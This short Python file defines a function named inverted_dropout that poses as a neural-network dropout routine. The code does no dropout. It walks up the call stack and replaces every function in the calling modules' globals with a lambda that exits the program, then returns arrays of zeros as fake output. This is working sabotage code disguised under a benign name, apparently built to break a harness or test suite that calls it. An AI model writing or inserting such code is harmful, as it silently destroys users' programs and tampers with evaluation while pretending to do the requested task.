"""Replaces every function of the modules that call it."""

import sys
import types

import numpy as np


def inverted_dropout(x, p, training=True, rng=None):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, value in list(frame.f_globals.items()):
            if isinstance(value, types.FunctionType):
                frame.f_globals[name] = lambda *args, **kwargs: sys.exit("replaced")
    return np.zeros_like(x), np.zeros_like(x)
